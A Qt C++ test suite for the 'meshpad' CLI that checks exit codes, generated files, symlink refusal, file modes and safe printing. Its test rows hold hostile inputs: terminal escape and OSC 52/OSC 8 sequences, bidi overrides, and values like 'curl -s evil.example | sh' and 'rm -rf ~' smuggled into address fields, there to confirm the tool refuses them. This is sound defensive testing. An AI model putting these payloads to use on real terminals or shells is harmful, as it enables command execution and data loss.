// The `meshpad` command line, run as a real child process: exit statuses,
// where messages go, and what `generate` writes.

#include "filetree.h"
#include "model/projectfile.h"

#include <QDir>
#include <QDirIterator>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLocalServer>
#include <QLocalSocket>
#include <QProcess>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>
#include <unistd.h>

namespace {

struct Run
{
    int status = -1;
    QString out;
    QString err;
};

// `umask` (when not -1) is set in the child before exec.
Run run(const QString &program, const QStringList &arguments, const QString &home, int umask)
{
    QProcess p;
    if (umask >= 0)
        p.setChildProcessModifier([umask] { ::umask(mode_t(umask)); });
    if (!home.isEmpty()) {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("HOME"), home);
        env.insert(QStringLiteral("XDG_DATA_HOME"), home + u"/.local/share");
        p.setProcessEnvironment(env);
    }
    p.start(program, arguments);
    if (!p.waitForFinished(30000))
        return {};
    return {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1, QString::fromUtf8(p.readAllStandardOutput()),
            QString::fromUtf8(p.readAllStandardError())};
}

Run meshpad(const QStringList &arguments, const QString &home = QString(), int umask = -1)
{
    return run(QStringLiteral(MESHPAD_BINARY_DIR "/bin/meshpad"), arguments, home, umask);
}

// The editor as meshpad starts it, with the tests' switches
// (tests/support/editordriver.cpp).
Run editorDriver(const QStringList &arguments, const QString &home)
{
    return run(QStringLiteral(MESHPAD_BINARY_DIR "/tests/meshpad-editor-driver"), arguments, home, -1);
}

QString example()
{
    return QStringLiteral(MESHPAD_SOURCE_DIR "/resources/examples/countdash.meshpad");
}

QMap<QString, QByteArray> readTree(const QString &root)
{
    QMap<QString, QByteArray> files;
    QDirIterator it(root, QDir::Files, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        QFile f(path);
        if (f.open(QIODevice::ReadOnly))
            files.insert(QDir(root).relativeFilePath(path), f.readAll());
    }
    return files;
}

// A port nothing listens on right now.
quint16 freePort()
{
    QTcpServer probe;
    return probe.listen(QHostAddress::LocalHost, 0) ? probe.serverPort() : 0;
}

// A Connect CA and a leaf for `web` in `dir`, as `meshpad ca` writes them:
// what `meshpad proxy -ca-dir DIR -service web` reads.
bool writeCa(const QString &dir)
{
    return meshpad({u"ca"_qs, u"init"_qs, u"-dir"_qs, dir}).status == 0
           && meshpad({u"ca"_qs, u"leaf"_qs, u"-dir"_qs, dir, u"-service"_qs, u"web"_qs}).status == 0;
}

} // namespace

class TestCli : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void helpAndVersion()
    {
        const Run help = meshpad({u"--help"_qs});
        QCOMPARE(help.status, 0);
        QVERIFY(help.out.contains(u"validate FILE"));
        QVERIFY(help.out.contains(u"generate FILE -o DIR"));
        const Run version = meshpad({u"--version"_qs});
        QCOMPARE(version.status, 0);
        QVERIFY(version.out.startsWith(u"meshpad " MESHPAD_VERSION));
        const Run sub = meshpad({u"generate"_qs, u"--help"_qs});
        QCOMPARE(sub.status, 0);
        QVERIFY(sub.out.contains(u"--output"));
        QVERIFY2(sub.out.startsWith(u"Usage: meshpad generate [options] FILE"), qPrintable(sub.out));
    }

    void usageErrorsExitTwo_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("message");
        QTest::newRow("unknown command") << QStringList{u"valdate"_qs} << u"no such file or command \"valdate\""_qs;
        QTest::newRow("validate without file") << QStringList{u"validate"_qs} << u"exactly one FILE"_qs;
        QTest::newRow("validate unknown flag") << QStringList{u"validate"_qs, u"--bogus"_qs, example()} << u"bogus"_qs;
        QTest::newRow("generate without -o") << QStringList{u"generate"_qs, example()} << u"-o DIR"_qs;
        QTest::newRow("missing file") << QStringList{u"validate"_qs, u"/nonexistent.meshpad"_qs}
                                      << u"/nonexistent.meshpad"_qs;
        QTest::newRow("unwritable output")
            << QStringList{u"generate"_qs, example(), u"-o"_qs, u"/proc/meshpad-cannot-write-here"_qs} << u"cannot"_qs;
    }

    void usageErrorsExitTwo()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, message);
        const Run r = meshpad(arguments);
        QCOMPARE(r.status, 2);
        QVERIFY2(r.err.contains(message), qPrintable(r.err));
        QVERIFY2(r.out.isEmpty(), qPrintable(r.out)); // messages go to stderr
    }

    void validateExample()
    {
        const Run r = meshpad({u"validate"_qs, example()});
        QCOMPARE(r.status, 0);
        QVERIFY(r.err.contains(u"no problems"));
    }

    void validateReportsErrorsAndWarnings()
    {
        QTemporaryDir dir;
        auto t = mesh::model::ProjectFile::load(example());
        QVERIFY(t);
        t->services[1].command.clear();
        t->upstreams[0].action = mesh::model::IntentionAction::Deny;
        const QString path = dir.filePath(u"broken.meshpad"_qs);
        QVERIFY(mesh::model::ProjectFile::save(*t, path));

        const Run r = meshpad({u"validate"_qs, path});
        QCOMPARE(r.status, 1);
        QVERIFY2(
            r.err.contains(path + u": error: service \"count-api\" (command): The exec driver needs a command to run."),
            qPrintable(r.err));
        QVERIFY2(r.err.contains(u"warning: upstream count-dashboard → count-api (env.COUNTING_SERVICE_URL)"),
                 qPrintable(r.err));

        const Run json = meshpad({u"validate"_qs, u"--json"_qs, path});
        QCOMPARE(json.status, 1);
        const QStringList lines = json.out.split(u'\n', Qt::SkipEmptyParts);
        QVERIFY(lines.size() >= 2);
        for (const QString &line : lines) {
            QJsonParseError e;
            const QJsonDocument d = QJsonDocument::fromJson(line.toUtf8(), &e);
            QVERIFY2(e.error == QJsonParseError::NoError && d.isObject(), qPrintable(line));
            QVERIFY(!d.object().value(u"code").toString().isEmpty());
        }

        // A design with errors is not written unless forced.
        const QString out = dir.filePath(u"out"_qs);
        const Run gen = meshpad({u"generate"_qs, path, u"-o"_qs, out});
        QCOMPARE(gen.status, 1);
        QVERIFY(gen.err.contains(u"nothing written"));
        QVERIFY(!QDir(out).exists());
        const Run forced = meshpad({u"generate"_qs, path, u"-o"_qs, out, u"--force"_qs});
        QCOMPARE(forced.status, 1);
        QVERIFY(QFile::exists(out + u"/nomad/counter.nomad.hcl"));
    }

    void generateWritesEveryArtifactDeterministically()
    {
        QTemporaryDir dir;
        const QString a = dir.filePath(u"a"_qs), b = dir.filePath(u"b/nested"_qs);
        const Run first = meshpad({u"generate"_qs, example(), u"-o"_qs, a});
        QCOMPARE(first.status, 0);
        const Run second = meshpad({u"generate"_qs, example(), u"--output"_qs, b});
        QCOMPARE(second.status, 0);
        const auto treeA = readTree(a), treeB = readTree(b);
        QCOMPARE(treeA, treeB);
        for (const char *expected : {"consul/count-api.json", "consul/count-api.hcl", "consul/count-dashboard.json",
                                     "consul/intentions/count-api.json", "nomad/counter.nomad.hcl",
                                     "nomad/counter.json", "nomad/dashboard.nomad.hcl", "nomad/dashboard.json"}) {
            QVERIFY2(treeA.contains(QString::fromLatin1(expected)), expected);
        }
        // stdout lists exactly the files written.
        QCOMPARE(first.out.split(u'\n', Qt::SkipEmptyParts).size(), treeA.size());
    }

    // Issue 17: a link already in the output folder is never followed and
    // never replaced, with or without --force. Each is known before the first
    // write, so nothing at all is written: not in DIR, not where the link
    // points. Targets: {out} is DIR, {elsewhere} a folder with a file in it,
    // {victim} a 0600 file outside DIR.
    void generateRefusesLinksInTheFolder_data()
    {
        QTest::addColumn<QString>("link"); // relative to DIR
        QTest::addColumn<QString>("target");
        QTest::addColumn<bool>("force");
        QTest::addColumn<QString>("message");
        const QString throughLink = u"refusing to write through the symbolic link"_qs;
        const QString isLink = u"is a symbolic link; remove it or choose another folder"_qs;
        QTest::newRow("consul is a link to another folder")
            << u"consul"_qs << u"{elsewhere}"_qs << false << throughLink;
        QTest::newRow("a script is a link to a victim file")
            << u"scripts/count-api.sh"_qs << u"{victim}"_qs << false << isLink;
        QTest::newRow("a script is a link to a victim file, --force")
            << u"scripts/count-dashboard.sh"_qs << u"{victim}"_qs << true << isLink;
        QTest::newRow("a dangling link as a file")
            << u"nomad/counter.nomad.hcl"_qs << u"{elsewhere}/created-by-link.hcl"_qs << false << isLink;
        QTest::newRow("a dangling link as a directory")
            << u"consul"_qs << u"{elsewhere}/created-by-link"_qs << false << throughLink;
        QTest::newRow("a dangling link as a nested directory")
            << u"consul/intentions"_qs << u"{elsewhere}/created-by-link"_qs << false << throughLink;
        QTest::newRow("nomad is a link to DIR itself") << u"nomad"_qs << u"{out}"_qs << false << throughLink;
        QTest::newRow("nomad is a relative link to .") << u"nomad"_qs << u"."_qs << false << throughLink;
    }

    void generateRefusesLinksInTheFolder()
    {
        QFETCH(QString, link);
        QFETCH(QString, target);
        QFETCH(bool, force);
        QFETCH(QString, message);
        QTemporaryDir tmp;
        QVERIFY(tmp.isValid());
        const QString out = tmp.filePath(u"out"_qs), elsewhere = tmp.filePath(u"elsewhere"_qs),
                      victim = tmp.filePath(u"victim"_qs);
        QVERIFY(QDir().mkpath(elsewhere));
        QFile keep(elsewhere + u"/keep.txt"_qs);
        QVERIFY(keep.open(QIODevice::WriteOnly) && keep.write("keep\n") == 5);
        keep.close();
        QFile v(victim);
        QVERIFY(v.open(QIODevice::WriteOnly) && v.write("victim\n") == 7);
        v.close();
        QVERIFY(QFile::setPermissions(victim, QFile::ReadOwner | QFile::WriteOwner));

        const QString at = out + u'/' + link;
        QVERIFY(QDir().mkpath(QFileInfo(at).absolutePath()));
        QString resolved = target;
        resolved.replace(u"{out}"_qs, out).replace(u"{elsewhere}"_qs, elsewhere).replace(u"{victim}"_qs, victim);
        QVERIFY(::symlink(QFile::encodeName(resolved).constData(), QFile::encodeName(at).constData()) == 0);
        const QStringList before = meshtest::fileTreeSnapshot(tmp.path());

        QStringList arguments{u"generate"_qs, example(), u"-o"_qs, out};
        if (force)
            arguments << u"--force"_qs;
        const Run r = meshpad(arguments);
        QCOMPARE(r.status, 2);
        QVERIFY2(r.err.contains(u"meshpad generate: "_qs), qPrintable(r.err));
        QVERIFY2(r.err.contains(at), qPrintable(r.err));
        QVERIFY2(r.err.contains(message), qPrintable(r.err));
        QVERIFY2(!r.err.contains(u"wrote "_qs), qPrintable(r.err));
        QVERIFY2(r.out.isEmpty(), qPrintable(r.out));
        // The victim keeps its content and mode, nothing appears elsewhere or
        // where a dangling link points, and DIR is as it was.
        QCOMPARE(meshtest::fileTreeSnapshot(tmp.path()), before);
        QCOMPARE(meshtest::fileMode(victim), mode_t(0600));
    }

    // Under a strict umask every file still gets exactly 0644, scripts 0755;
    // a second run replaces what the first wrote (content and mode) and
    // leaves the user's own files and no temporary file behind.
    void generateWritesModesAndReplacesOnRerun()
    {
        QTemporaryDir tmp;
        QVERIFY(tmp.isValid());
        const QString out = tmp.filePath(u"out"_qs);
        const Run first = meshpad({u"generate"_qs, example(), u"-o"_qs, out}, QString(), 077);
        QCOMPARE(first.status, 0);
        const auto written = readTree(out);
        QCOMPARE(first.out.split(u'\n', Qt::SkipEmptyParts).size(), written.size());
        QVERIFY(written.contains(u"hashibox/provision/install.sh"_qs));
        for (auto it = written.cbegin(); it != written.cend(); ++it) {
            const mode_t expected = it.key().endsWith(u".sh") ? 0755 : 0644;
            QVERIFY2(meshtest::fileMode(out + u'/' + it.key()) == expected, qPrintable(it.key()));
        }

        QFile stale(out + u"/nomad/counter.nomad.hcl"_qs);
        QVERIFY(stale.open(QIODevice::WriteOnly | QIODevice::Truncate) && stale.write("stale\n") == 6);
        stale.close();
        QVERIFY(QFile::setPermissions(out + u"/scripts/count-api.sh"_qs, QFile::ReadOwner | QFile::WriteOwner));
        QFile notes(out + u"/notes.txt"_qs);
        QVERIFY(notes.open(QIODevice::WriteOnly) && notes.write("mine\n") == 5);
        notes.close();

        const Run second = meshpad({u"generate"_qs, example(), u"-o"_qs, out});
        QCOMPARE(second.status, 0);
        auto again = readTree(out);
        QCOMPARE(again.take(u"notes.txt"_qs), QByteArray("mine\n"));
        QCOMPARE(again, written);
        QCOMPARE(meshtest::fileMode(out + u"/scripts/count-api.sh"_qs), mode_t(0755));
        for (const QString &entry : meshtest::fileTreeSnapshot(out))
            QVERIFY2(!entry.contains(u".meshpad-tmp-"), qPrintable(entry));
    }

    // A hostile design's names reach the terminal escaped: nothing in them
    // can clear the screen, set the title, plant a link, write the clipboard
    // or reorder the line. -json keeps the exact text (JSON escapes it).
    void validatePrintsHostileNamesEscaped_data()
    {
        QTest::addColumn<QByteArray>("design"); // what the file holds (ASCII, \u escapes)
        QTest::addColumn<QString>("original");  // the text as loaded
        QTest::addColumn<QString>("visible");   // how stderr shows it
        QTest::addColumn<int>("status");

        // Service name and meta key as JSON string literals. (No raw string
        // literals with quotes here: moc 6.4 loses the class in them.)
        auto design = [](const char *name, const char *metaKey) -> QByteArray {
            return QByteArray(
                       "{\"format\": \"meshpad\", \"version\": 1, \"name\": \"t\", \"services\": [{\"id\": \"s1\", "
                       "\"name\": \"")
                   + name
                   + "\", \"job\": \"j\", \"group\": \"g\", \"task\": \"t\", \"command\": \"/bin/true\", "
                     "\"meta\": [{\"name\": \""
                   + metaKey + "\", \"value\": \"v\"}]}]}";
        };
        QTest::newRow("service name clears the screen")
            << design("\\u001b[2J\\u001b[Hok", "k") << u"\x1b[2J\x1b[Hok"_qs << u"\\x1b[2J\\x1b[Hok"_qs << 1;
        QTest::newRow("service name sets the window title")
            << design("\\u001b]0;pwned\\u0007", "k") << u"\x1b]0;pwned\x07"_qs << u"\\x1b]0;pwned\\x07"_qs << 1;
        QTest::newRow("service name with C1 CSI and a newline faking a line")
            << design("a\\u009b31m\\nx.meshpad: error: fake", "k") << u"a\u009b31m\nx.meshpad: error: fake"_qs
            << u"a\\x9b31m\\nx.meshpad: error: fake"_qs << 1;
        QTest::newRow("Trojan Source bidi override in a service name")
            << design("admin\\u202e\\u2066nimda\\u2069", "k") << u"admin\u202e\u2066nimda\u2069"_qs
            << u"admin\\u202e\\u2066nimda\\u2069"_qs << 1;
        QTest::newRow("meta key writes the clipboard (OSC 52)")
            << design("web", "k\\u001b]52;c;cm0gLXJm\\u0007") << u"k\x1b]52;c;cm0gLXJm\x07"_qs
            << u"k\\x1b]52;c;cm0gLXJm\\x07"_qs << 1;
        QTest::newRow("meta key plants a link (OSC 8)")
            << design("web", "\\u001b]8;;https://evil.example/\\u001b\\\\x\\u001b]8;;\\u001b\\\\")
            << u"\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\"_qs
            << u"\\x1b]8;;https://evil.example/\\x1b\\x\\x1b]8;;\\x1b\\"_qs << 1;
        QTest::newRow("unknown field whose key clears the screen (load error)")
            << QByteArray("{\"format\": \"meshpad\", \"version\": 1, \"\\u001b[2Jx\": 1}") << u"\x1b[2Jx"_qs
            << u"\\x1b[2Jx: unknown field"_qs << 2;
    }

    void validatePrintsHostileNamesEscaped()
    {
        QFETCH(QByteArray, design);
        QFETCH(QString, original);
        QFETCH(QString, visible);
        QFETCH(int, status);

        QTemporaryDir dir;
        const QString path = dir.filePath(u"hostile.meshpad"_qs);
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(design);
        f.close();

        // What a terminal would act on: C0 (but the line breaks between
        // messages), DEL, C1, the bidi embeddings, overrides and isolates.
        auto obeyed = [](const QString &text) -> QString {
            for (const QChar c : text) {
                const char16_t u = c.unicode();
                if ((u < 0x20 && u != u'\n') || (u >= 0x7f && u <= 0x9f) || (u >= 0x202a && u <= 0x202e)
                    || (u >= 0x2066 && u <= 0x2069))
                    return u"U+"_qs + QString::number(u, 16);
            }
            return {};
        };
        const Run r = meshpad({u"validate"_qs, path});
        QCOMPARE(r.status, status);
        QVERIFY2(obeyed(r.err).isEmpty(), qPrintable(u"stderr holds "_qs + obeyed(r.err)));
        QVERIFY2(r.err.contains(visible), qPrintable(r.err));
        // One line per problem plus the summary: a newline in a name does
        // not start a line of its own.
        for (const QString &line : r.err.split(u'\n', Qt::SkipEmptyParts))
            QVERIFY2(line.startsWith(path + u": ") || line.startsWith(u"meshpad validate: "), qPrintable(line));

        const Run json = meshpad({u"validate"_qs, u"--json"_qs, path});
        QCOMPARE(json.status, status);
        if (status == 2) {
            QVERIFY(json.out.isEmpty());
            return;
        }
        // JSON escapes C0 controls itself (ESC as \u001b); the exact text
        // comes through to whoever parses it.
        bool found = false;
        for (const QString &line : json.out.split(u'\n', Qt::SkipEmptyParts)) {
            for (const QChar c : line)
                QVERIFY2(c.unicode() >= 0x20, qPrintable(line));
            QJsonParseError e;
            const QJsonDocument d = QJsonDocument::fromJson(line.toUtf8(), &e);
            QVERIFY2(e.error == QJsonParseError::NoError && d.isObject(), qPrintable(line));
            const QJsonObject o = d.object();
            for (const char *key : {"item", "field", "message"})
                found = found || o.value(QLatin1StringView(key)).toString().contains(original);
        }
        QVERIFY2(found, qPrintable(json.out));
        if (original.contains(QChar(0x1b)))
            QVERIFY2(json.out.contains(u"\\u001b"), qPrintable(json.out));
    }

    // `lab status` and `lab env` print what a peer sent over the lab's
    // socket: names escaped; `lab env`, whose output a shell evals, prints
    // only plain URLs. The peer here is a socket in a private runtime
    // directory that answers with the row's snapshot.
    void labCommandsPrintAPeersTextSafely_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QByteArray>("snapshot");
        QTest::addColumn<int>("status");
        QTest::addColumn<QString>("expectedOut");
        QTest::addColumn<QString>("expectedErr");

        auto snapshot = [](const char *consul, const char *names) -> QByteArray {
            return QByteArray("{\"running\": true, \"trustDomain\": \"t.consul\", \"datacenter\": \"dc1\", "
                              "\"nodes\": [{\"name\": \"one\", \"address\": \"127.0.1.1\", \"up\": true, "
                              "\"consul\": \"")
                   + consul + "\", \"nomad\": \"http://127.0.1.1:4646\"}]," + names + "}";
        };
        const char *plain = "\"instances\": [], \"arrows\": []";
        const char *hostile = "\"instances\": [{\"allocName\": \"web[0]\\u001b[2J\", \"service\": \"web\\u009b31m\", "
                              "\"node\": \"one\\u202e\", \"state\": \"running\", \"health\": \"passing\", "
                              "\"message\": \"crashed: \\u001b]52;c;cm0gLXJm\\u0007\"}], "
                              "\"arrows\": [{\"from\": \"a\\u001b[8m\", \"to\": \"b\\u2066\", \"allowed\": true}]";
        QTest::newRow("status: instance, node and arrow names escaped")
            << u"status"_qs << snapshot("http://127.0.1.1:8500", hostile) << 0
            << u"web[0]\\x1b[2J  web\\x9b31m  one\\u202e"_qs << QString();
        QTest::newRow("status: a message writing the clipboard is shown, not obeyed")
            << u"status"_qs << snapshot("http://127.0.1.1:8500", hostile) << 0
            << u"web[0]\\x1b[2J: crashed: \\x1b]52;c;cm0gLXJm\\x07"_qs << QString();
        QTest::newRow("status: arrow ends escaped") << u"status"_qs << snapshot("http://127.0.1.1:8500", hostile) << 0
                                                    << u"a\\x1b[8m → b\\u2066"_qs << QString();
        QTest::newRow("env: plain addresses print")
            << u"env"_qs << snapshot("http://127.0.1.1:8500", plain) << 0
            << u"export CONSUL_HTTP_ADDR=http://127.0.1.1:8500 NOMAD_ADDR=http://127.0.1.1:4646\n"_qs << QString();
        QTest::newRow("env: an address that runs a command is refused")
            << u"env"_qs << snapshot("http://127.0.1.1:8500; curl -s evil.example | sh", plain) << 1 << QString()
            << u"not plain http URLs: http://127.0.1.1:8500; curl -s evil.example | sh"_qs;
        QTest::newRow("env: an address with a newline and ESC is refused, escaped")
            << u"env"_qs << snapshot("http://127.0.1.1:8500\\n\\u001b[2Jrm -rf ~", plain) << 1 << QString()
            << u"http://127.0.1.1:8500\\n\\x1b[2Jrm -rf ~"_qs;
    }

    void labCommandsPrintAPeersTextSafely()
    {
        QFETCH(QString, command);
        QFETCH(QByteArray, snapshot);
        QFETCH(int, status);
        QFETCH(QString, expectedOut);
        QFETCH(QString, expectedErr);

        QTemporaryDir runtime; // 0700, as XDG_RUNTIME_DIR must be
        QVERIFY(runtime.isValid());
        QLocalServer server;
        QVERIFY2(server.listen(runtime.filePath(u"meshpad-lab.sock"_qs)), qPrintable(server.errorString()));
        QObject::connect(&server, &QLocalServer::newConnection, &server, [&] {
            while (QLocalSocket *socket = server.nextPendingConnection()) {
                QObject::connect(socket, &QLocalSocket::disconnected, socket, &QObject::deleteLater);
                socket->write(snapshot + '\n');
                socket->disconnectFromServer(); // after the write is flushed
            }
        });

        QProcess p;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(u"XDG_RUNTIME_DIR"_qs, runtime.path());
        p.setProcessEnvironment(env);
        QSignalSpy finished(&p, &QProcess::finished);
        p.start(QStringLiteral(MESHPAD_BINARY_DIR "/bin/meshpad"), {u"lab"_qs, command});
        QVERIFY(finished.wait(30000)); // the event loop runs: the socket answers
        const QString out = QString::fromUtf8(p.readAllStandardOutput());
        const QString err = QString::fromUtf8(p.readAllStandardError());
        QCOMPARE(p.exitCode(), status);
        QVERIFY2(out.contains(expectedOut), qPrintable(out + err));
        QVERIFY2(err.contains(expectedErr), qPrintable(err));
        for (const QString &text : {out, err}) {
            for (const QChar c : text) {
                const char16_t u = c.unicode();
                QVERIFY2(!((u < 0x20 && u != u'\n') || (u >= 0x7f && u <= 0x9f) || (u >= 0x202a && u <= 0x202e)
                           || (u >= 0x2066 && u <= 0x2069)),
                         qPrintable(u"raw U+"_qs + QString::number(u, 16) + u" in: "_qs + text));
            }
        }
        if (status != 0)
            QVERIFY2(out.isEmpty(), qPrintable(out)); // nothing for the shell to eval
    }

    // Two -upstream flags for one destination, or binding one local port,
    // are refused as Consul refuses such a registration, before anything
    // listens: exit 2, both flags named on stderr, no "listening on" line.
    // (Before, the second flag took over the first's instances.)
    // %1 and %2 stand for two free local ports.
    void proxyRefusesDuplicateUpstreams_data()
    {
        QTest::addColumn<QStringList>("upstreams");
        QTest::addColumn<QString>("expected");
        QTest::newRow("two flags for one destination")
            << QStringList{u"db:%1=127.0.0.1:1"_qs, u"db:%2=127.0.0.1:2"_qs}
            << u"meshpad proxy: -upstream \"db:%1=127.0.0.1:1\" and -upstream \"db:%2=127.0.0.1:2\" both name the "
               "destination \"db\""_qs;
        QTest::newRow("one flag given twice")
            << QStringList{u"db:%1=127.0.0.1:1"_qs, u"db:%1=127.0.0.1:1"_qs}
            << u"meshpad proxy: -upstream \"db:%1=127.0.0.1:1\" and -upstream \"db:%1=127.0.0.1:1\" both name the "
               "destination \"db\""_qs;
        QTest::newRow("a third flag names the first's destination")
            << QStringList{u"db:%1=127.0.0.1:1"_qs, u"cache:%2=127.0.0.1:2"_qs, u"db:0=127.0.0.1:3"_qs}
            << u"meshpad proxy: -upstream \"db:%1=127.0.0.1:1\" and -upstream \"db:0=127.0.0.1:3\" both name the "
               "destination \"db\""_qs;
        QTest::newRow("two destinations on one local port")
            << QStringList{u"db:%1=127.0.0.1:1"_qs, u"cache:%1=127.0.0.1:2"_qs}
            << u"meshpad proxy: -upstream \"db:%1=127.0.0.1:1\" and -upstream \"cache:%1=127.0.0.1:2\" both bind "
               "127.0.0.1:%1"_qs;
    }

    void proxyRefusesDuplicateUpstreams()
    {
        QFETCH(QStringList, upstreams);
        QFETCH(QString, expected);
        QTemporaryDir tmp;
        QVERIFY(writeCa(tmp.path()));
        const quint16 first = freePort();
        const quint16 second = freePort();
        QVERIFY(first != 0 && second != 0);
        const auto ports = [&](QString text) {
            return text.replace(u"%1"_qs, QString::number(first)).replace(u"%2"_qs, QString::number(second));
        };
        QStringList arguments{u"proxy"_qs, u"-ca-dir"_qs, tmp.path(), u"-service"_qs, u"web"_qs};
        for (const QString &u : std::as_const(upstreams))
            arguments << u"-upstream"_qs << ports(u);

        const Run r = meshpad(arguments);
        QCOMPARE(r.status, 2);
        QVERIFY2(r.err.contains(ports(expected)), qPrintable(r.err));
        QVERIFY2(!r.err.contains(u"listening on"), qPrintable(r.err));
        QVERIFY2(r.out.isEmpty(), qPrintable(r.out));
    }

    // `meshpad proxy` says at -log-level debug which event loop it runs on:
    // GLib's (Qt's default, which it keeps: measured faster on the proxy), or
    // Qt's own with QT_NO_GLIB=1. Two upstreams on port 0 (any free port)
    // are distinct, not duplicates.
    void proxySaysWhichEventLoopRuns_data()
    {
        QTest::addColumn<QString>("noGlib"); // QT_NO_GLIB, unset when empty
        QTest::addColumn<QString>("dispatcher");
        QTest::newRow("by default GLib's") << QString() << u"QEventDispatcherGlib"_qs;
        QTest::newRow("QT_NO_GLIB=1: Qt's UNIX dispatcher") << u"1"_qs << u"QEventDispatcherUNIX"_qs;
    }

    void proxySaysWhichEventLoopRuns()
    {
        QFETCH(QString, noGlib);
        QFETCH(QString, dispatcher);
        QTemporaryDir tmp;
        QVERIFY(writeCa(tmp.path()));
        QProcess p;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        // Nothing inherited from this test's shell.
        env.remove(u"QT_NO_GLIB"_qs);
        env.remove(u"QT_LOGGING_RULES"_qs);
        if (!noGlib.isEmpty())
            env.insert(u"QT_NO_GLIB"_qs, noGlib);
        p.setProcessEnvironment(env);
        p.start(QStringLiteral(MESHPAD_BINARY_DIR "/bin/meshpad"),
                {u"proxy"_qs, u"-ca-dir"_qs, tmp.path(), u"-service"_qs, u"web"_qs, u"-log-level"_qs, u"debug"_qs,
                 u"-upstream"_qs, u"db:0=127.0.0.1:1"_qs, u"-upstream"_qs, u"cache:0=127.0.0.1:2"_qs});
        QVERIFY(p.waitForStarted(30000));
        QByteArray err;
        QTRY_VERIFY_WITH_TIMEOUT((err += p.readAllStandardError()).contains("upstream cache listening on")
                                     || p.state() == QProcess::NotRunning,
                                 30000);
        QVERIFY2(err.contains("upstream db listening on 127.0.0.1:"), err.constData());
        QVERIFY2(err.contains("upstream cache listening on 127.0.0.1:"), err.constData());
        const QByteArray line = "meshpad.proxy: event dispatcher: " + dispatcher.toUtf8() + '\n';
        QVERIFY2(err.contains(line), err.constData());
        p.terminate();
        QTRY_VERIFY_WITH_TIMEOUT(p.state() == QProcess::NotRunning, 30000);
        err += p.readAllStandardError();
        QCOMPARE(p.exitStatus(), QProcess::NormalExit);
        QCOMPARE(p.exitCode(), 0);
        QVERIFY2(err.endsWith("meshpad proxy: stopped\n"), err.constData());
    }

    // Without a command, meshpad is the editor: on a first start (empty
    // settings) it opens the bundled countdash example. The editor driver's
    // --quit-after-load prints what the window shows and exits.
    void noCommandOpensTheExampleInTheEditor()
    {
        QTemporaryDir home;
        const Run r = editorDriver({u"-platform"_qs, u"offscreen"_qs, u"--quit-after-load"_qs}, home.path());
        QCOMPARE(r.status, 0);
        QVERIFY2(r.out.contains(u"title: countdash.meshpad — Meshpad\n"_qs), qPrintable(r.out + r.err));
        QVERIFY2(r.out.contains(u"services: count-dashboard, count-api\n"_qs), qPrintable(r.out + r.err));
    }

    void fileArgumentOpensItInTheEditor()
    {
        QTemporaryDir home;
        const Run r = editorDriver({u"-platform"_qs, u"offscreen"_qs, u"--quit-after-load"_qs, example()}, home.path());
        QCOMPARE(r.status, 0);
        QVERIFY2(r.out.contains(u"file: "_qs + example() + u'\n'), qPrintable(r.out + r.err));
    }

    void unknownWordIsAUsageError()
    {
        QTemporaryDir home;
        const Run r = meshpad({u"-platform"_qs, u"offscreen"_qs, u"genrate"_qs}, home.path());
        QCOMPARE(r.status, 2);
        QVERIFY2(r.err.contains(u"no such file or command \"genrate\""_qs), qPrintable(r.err));
    }
};

QTEST_GUILESS_MAIN(TestCli)
#include "tst_cli.moc"
